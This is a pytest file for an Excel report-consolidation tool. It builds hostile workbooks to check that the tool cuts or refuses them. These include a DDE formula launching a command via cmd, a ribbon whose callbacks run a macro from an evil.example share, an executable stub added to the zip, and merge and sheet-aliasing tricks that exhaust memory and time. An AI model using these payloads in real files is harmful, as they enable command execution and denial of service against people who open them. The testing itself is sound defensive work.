"""Attacks of the fifth round on what a commune's file makes the tool do, each a real
hostile workbook run through the real command or made into a feedback copy: a worksheet part
whose name does not end in ".xml" (so that the size cap of the feedback copy did not count
it); a table and a chart whose formulas reach out; merges one over another down to the
sheet's last row; a file merely added to the zip; a ribbon calling a macro on a share; many
sheets declared on one sheet's data."""

from __future__ import annotations

import io
import re
import struct
import time
import zipfile
from pathlib import Path

import olefile
import openpyxl
import pytest
import python_calamine
import xlsxwriter
import xlwt
from support.reports import DATA_SHEET
from test_feedback_defang import _copy

from ntm_excel.cli import main
from ntm_excel.write import feedback
from ntm_excel.write.defang import CUT

SAMPLES = Path(__file__).resolve().parent.parent / "workbooks" / "mau_nop"
NHUONG = SAMPLES / "TDG_xa_cam_nhuong.xlsx"  # Cẩm Nhượng's workbook: its feedback is a copy
DATA_PART = "xl/worksheets/sheet2.xml"  # its sheet «TDG»


def _renamed_data_part(suffix: str, padding: int) -> bytes:
    """Cẩm Nhượng's workbook with its data sheet stored under another name (the workbook's
    relationship and the content types follow) and `padding` bytes of empty elements after
    its cells, stored (not deflated: no compression ratio to catch)."""
    renamed = DATA_PART.removesuffix(".xml") + suffix
    out = io.BytesIO()
    with zipfile.ZipFile(NHUONG) as source, zipfile.ZipFile(out, "w") as target:
        for member in source.infolist():
            data, name = source.read(member), member.filename
            if name == DATA_PART:
                name = renamed
                empty = b"<a/>" * (padding // 4)
                extension = b'<extLst><ext uri="{0}">' + empty + b"</ext></extLst></worksheet>"
                data = data.replace(b"</worksheet>", extension)
            elif name in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                data = data.replace(DATA_PART.removeprefix("xl/").encode(), renamed[3:].encode())
            target.writestr(name, data)
    return out.getvalue()


def _feedback_sheets(tmp_path: Path, data: bytes) -> list[str]:
    inbox = tmp_path / "nop"
    inbox.mkdir(parents=True)
    (inbox / "TDG_xa_cam_nhuong.xlsx").write_bytes(data)
    argv = ["consolidate", str(inbox), "--output", str(tmp_path / "ra" / "tong_hop.xlsx")]
    assert main([*argv, "--as-of", "2021-03-25", "--no-history", "--state-dir", "var"]) == 0
    (made,) = (tmp_path / "ra" / "gop_y").glob("*.xlsx")
    return python_calamine.CalamineWorkbook.from_path(made).sheet_names


def test_a_data_sheet_named_bin_is_counted_against_the_copy_cap(tmp_path, monkeypatch):
    """A worksheet part named «sheet2.bin» is read like any other, but the cap on the XML
    of a feedback copy counted only the parts named «.xml»: 80 MB of it were parsed into
    about 2.9 GB of memory in the consolidating process itself (measured), which a
    machine of a few gigabytes could not give. It is counted now, and the file gets the
    list only, as any other file too large to copy."""
    monkeypatch.chdir(tmp_path)
    small = _renamed_data_part(".bin", 0)
    assert _feedback_sheets(tmp_path / "a", small)[:4] == [
        feedback.SHEET,
        "Hướng dẫn",
        "TDG",
        "Lộ trình",
    ]

    large = _renamed_data_part(".bin", feedback.EDIT_LIMIT)
    sheets = _feedback_sheets(tmp_path / "b", large)

    assert sheets[0] == feedback.SHEET and "TDG" not in sheets


def test_images_do_not_count_against_the_copy_cap(tmp_path, monkeypatch):
    """A logo larger than the cap is no XML: the workbook is still copied and marked."""
    monkeypatch.chdir(tmp_path)
    out = io.BytesIO()
    with zipfile.ZipFile(NHUONG) as source, zipfile.ZipFile(out, "w") as target:
        for member in source.infolist():
            target.writestr(member, source.read(member))
        target.writestr("xl/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(feedback.EDIT_LIMIT))
    assert _feedback_sheets(tmp_path, out.getvalue())[1:4] == ["Hướng dẫn", "TDG", "Lộ trình"]


# --- a table's and a chart's formulas in a feedback copy --------------------------------------

DDE = "cmd|' /C calc'!A0"


def _table_and_chart(path: Path) -> Path:
    """A commune's workbook (the `problem` cell E12 among its data) with a table whose
    column formula and total are DDE (Excel fills the column's formula into every row the
    commune adds) and a chart whose series is DDE."""
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet(DATA_SHEET)
    sheet.write("A12", "4.2")
    sheet.write("D12", 90)
    sheet.write("E12", "Đạt")
    columns = [{"header": "Số"}, {"header": "Lệnh", "formula": DDE, "total_function": f"={DDE}"}]
    sheet.add_table("H1:I4", {"columns": columns, "total_row": True})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": f"='{DATA_SHEET}'!$D$12:$D$12"})
    sheet.insert_chart("K2", chart)
    book.close()
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    chart_part = "xl/charts/chart1.xml"
    members[chart_part] = re.sub(
        rb"<c:f>[^<]*</c:f>", f"<c:f>{DDE}</c:f>".encode(), members[chart_part]
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize("way", ["direct", "openpyxl"])
def test_a_table_or_chart_formula_that_reaches_out_is_cut_in_the_copy(tmp_path, way):
    """Tables and charts were copied as they came: a DDE column formula waited for the
    commune's next row. Their formulas that reach out are cut as a defined name's are."""
    source = _table_and_chart(tmp_path / "cam_thanh.xlsx")
    table = openpyxl.load_workbook(source)[DATA_SHEET].tables["Table1"]
    assert table.tableColumns[1].calculatedColumnFormula.attr_text == DDE

    out = _copy(source, tmp_path, way)

    sheet = openpyxl.load_workbook(out)[DATA_SHEET]
    column = sheet.tables["Table1"].tableColumns[1]
    assert column.calculatedColumnFormula.attr_text == CUT
    assert column.totalsRowFormula.attr_text == CUT
    (chart,) = sheet._charts
    assert chart.series[0].val.numRef.f == CUT
    with zipfile.ZipFile(out) as archive:
        assert not [name for name in archive.namelist() if b"cmd|" in archive.read(name)]


# --- merges that overlap one another, to the sheet's last row ---------------------------------


def test_merges_down_to_the_last_row_do_not_slow_the_roadmap(tmp_path, capsys):
    """A 14 kB file whose roadmap sheet «Lộ trình» holds 30 merges «D30:H1048576» (one
    over another, which no spreadsheet program writes): each was spread over its million
    rows and five columns (10 merges: 18 s and half a gigabyte; a thousand, hours). Merges
    now end with the sheet's rows, and overlapping ones stop counting; the roadmap reads as
    it did without them."""
    plain = tmp_path / "a" / "TDG_xa_cam_nhuong.xlsx"
    hostile = tmp_path / "b" / "TDG_xa_cam_nhuong.xlsx"
    plain.parent.mkdir()
    hostile.parent.mkdir()
    data = NHUONG.read_bytes()
    plain.write_bytes(data)
    merges = b"".join(b'<mergeCell ref="D%d:H1048576"/>' % (30 + n % 5) for n in range(30))
    with zipfile.ZipFile(NHUONG) as source, zipfile.ZipFile(hostile, "w") as target:
        for member in source.infolist():
            part = source.read(member)
            if member.filename == "xl/worksheets/sheet3.xml":  # «Lộ trình»
                part = part.replace(
                    b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>"
                )
            target.writestr(member, part)
    main(["validate", str(plain)])
    expected = capsys.readouterr().out.replace(str(plain.parent), "")

    started = time.monotonic()
    main(["validate", str(hostile)])

    assert time.monotonic() - started < 10
    assert capsys.readouterr().out.replace(str(hostile.parent), "") == expected


# --- files merely added to the zip ----------------------------------------------------------


@pytest.mark.parametrize("way", ["direct", "openpyxl"])
def test_a_file_merely_added_to_the_zip_is_left_out_of_the_copy(tmp_path, way):
    """A program, or anything else, added to the commune's zip without any relationship
    leading to it was copied as it was into the feedback workbook the office mails out.
    Only what the package's relationships reach is copied now; the rest of the workbook is."""
    source = tmp_path / "TDG_xa_cam_nhuong.xlsx"
    program = b"MZ\x90\x00" + b"\x00" * 60
    added = ("xl/embeddings/oleObject9.bin", "run.exe", "xl/media/image9.png")
    with zipfile.ZipFile(NHUONG) as old, zipfile.ZipFile(source, "w") as new:
        for member in old.infolist():
            new.writestr(member, old.read(member))
        for name in added:
            new.writestr(name, program)
        # a relationships part of a part nothing leads to leads nowhere either
        new.writestr("xl/_rels/extra.xml.rels", _EXTRA_RELS)

    out = _copy(source, tmp_path, way)

    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        assert not [name for name in names if archive.read(name) == program]
    assert "xl/_rels/extra.xml.rels" not in names
    if way == "direct":  # every member of the commune's own package is still there
        with zipfile.ZipFile(NHUONG) as original:
            assert set(original.namelist()) <= set(names)
    sheets = python_calamine.CalamineWorkbook.from_path(out).sheet_names
    assert sheets[:4] == [feedback.SHEET, "Hướng dẫn", "TDG", "Lộ trình"]


_EXTRA_RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="media/image9.png" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/image"/></Relationships>'
)


# --- a ribbon of the commune's own ------------------------------------------------------------

RIBBON = (
    b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
    b'onLoad="\'\\\\evil.example\\share\\tool.xlsm\'!OnLoad"><ribbon><tabs><tab id="t" '
    b'label="NTM"><group id="g" label="Nop"><button id="b" label="Nop bieu" '
    b"onAction=\"'\\\\evil.example\\share\\tool.xlsm'!Run\"/></group></tab></tabs></ribbon>"
    b"</customUI>"
)
UI = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"


@pytest.mark.parametrize("way", ["direct", "openpyxl"])
def test_a_ribbon_calling_a_macro_on_a_share_goes(tmp_path, way):
    """A ribbon customisation (customUI) whose load callback and button run a macro of a
    workbook on a share was copied as it was (the macros of the file itself go, a shape's
    macro too). It goes with its relationship; the workbook is copied."""
    source = tmp_path / "TDG_xa_cam_nhuong.xlsx"
    with zipfile.ZipFile(NHUONG) as old, zipfile.ZipFile(source, "w") as new:
        for member in old.infolist():
            data = old.read(member)
            if member.filename == "_rels/.rels":
                ribbon = f'<Relationship Id="rId99" Type="{UI}" Target="customUI/customUI14.xml"/>'
                data = data.replace(b"</Relationships>", ribbon.encode() + b"</Relationships>")
            new.writestr(member, data)
        new.writestr("customUI/customUI14.xml", RIBBON)

    out = _copy(source, tmp_path, way)

    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        assert b"evil.example" not in b"".join(archive.read(name) for name in names)
        assert b"extensibility" not in archive.read("_rels/.rels")
    assert not [name for name in names if name.startswith("customUI/")]
    sheets = python_calamine.CalamineWorkbook.from_path(out).sheet_names
    assert sheets[:4] == [feedback.SHEET, "Hướng dẫn", "TDG", "Lộ trình"]


# --- many sheets, one sheet's data --------------------------------------------------------


def _xlsx_sheets_on_one_part(copies: int) -> bytes:
    """Cẩm Nhượng's workbook with `copies` more sheets in its workbook part, each pointing
    to the part of its sheet «Lộ trình», which holds 50,000 numbers (1.4 MB of XML)."""
    numbers = b"".join(
        b'<row r="%d">' % row
        + b"".join(
            b'<c r="%s%d"><v>%d</v></c>' % (_letters(col), row, row * col) for col in range(50)
        )
        + b"</row>"
        for row in range(1, 1001)
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(NHUONG) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet3.xml":
                data = re.sub(
                    rb"<sheetData>.*</sheetData>",
                    b"<sheetData>" + numbers + b"</sheetData>",
                    data,
                    flags=re.S,
                )
            elif member.filename == "xl/workbook.xml":
                more = b"".join(
                    b'<sheet name="S%d" sheetId="%d" r:id="rId3"/>' % (n, 100 + n)
                    for n in range(copies)
                )
                data = data.replace(b"</sheets>", more + b"</sheets>")
            target.writestr(member, data)
    return out.getvalue()


def _letters(col: int) -> bytes:
    return bytes([65 + col // 26 - 1]) + bytes([65 + col % 26]) if col >= 26 else bytes([65 + col])


def _xls_sheets_on_one_substream(copies: int) -> bytes:
    """An .xls of a sheet of 15,000 numbers and `copies` more sheets whose BOUNDSHEET
    records all give the first sheet's offset (the stream rewritten in its container)."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("Biểu")
    for row in range(300):
        for col in range(50):
            sheet.write(row, col, row * col + 0.5)
    for number in range(copies):
        book.add_sheet(f"S{number}")
    made = io.BytesIO()
    book.save(made)
    container = olefile.OleFileIO(io.BytesIO(made.getvalue()), write_mode=True)
    stream = bytearray(container.openstream("Workbook").read())
    at, first = 0, None
    while at + 4 <= len(stream):
        kind, length = struct.unpack_from("<HH", stream, at)
        if kind == 0x0085:  # BOUNDSHEET: the offset of the sheet's BOF first
            first = first if first is not None else struct.unpack_from("<I", stream, at + 4)[0]
            struct.pack_into("<I", stream, at + 4, first)
        at += 4 + length
    container.write_stream("Workbook", bytes(stream))
    return container.fp.getvalue()


@pytest.mark.parametrize(
    ("name", "make", "why"),
    [
        ("nhuong.xlsx", _xlsx_sheets_on_one_part, "trang «S0» trỏ tới dữ liệu của một trang khác"),
        (
            "nhuong.xls",
            _xls_sheets_on_one_substream,
            "tệp .xls bị hỏng (bản ghi dữ liệu sai cấu trúc)",
        ),
    ],
)
def test_sheets_that_share_one_sheets_data_are_refused(tmp_path, capsys, name, make, why):
    """Many sheets declared on one sheet's data (no spreadsheet program writes that): calamine
    read that data once for each (100 sheets on 1.4 MB of XML: 16 s; 100 BOUNDSHEET records
    on one substream: 32 s and 600 MB; ten thousand, hours). Refused before it reads any."""
    path = tmp_path / name
    path.write_bytes(make(60))
    started = time.monotonic()
    main(["validate", str(path)])
    assert time.monotonic() - started < 10
    assert why in capsys.readouterr().out


def test_a_picture_its_relationship_names_percent_encoded_is_kept(tmp_path):
    """A part name is a URI in a relationship («image%201.png» for «image 1.png»): the
    picture is reached, and copied."""
    source = tmp_path / "cam_thanh.xlsx"
    book = xlsxwriter.Workbook(source)
    sheet = book.add_worksheet(DATA_SHEET)
    sheet.write("A12", "4.2")
    sheet.write("D12", 90)
    sheet.write("E12", "Đạt")
    sheet.insert_image("H2", "logo.png", {"image_data": io.BytesIO(PIXEL)})
    book.close()
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["xl/media/image 1.png"] = members.pop("xl/media/image1.png")
    rels = "xl/drawings/_rels/drawing1.xml.rels"
    members[rels] = members[rels].replace(b"image1.png", b"image%201.png")
    with zipfile.ZipFile(source, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)

    out = _copy(source, tmp_path, "direct")

    with zipfile.ZipFile(out) as archive:
        assert archive.read("xl/media/image 1.png") == PIXEL


PIXEL = bytes.fromhex(  # a PNG of one pixel
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000100e5273de40000000049454e44ae426082"
)
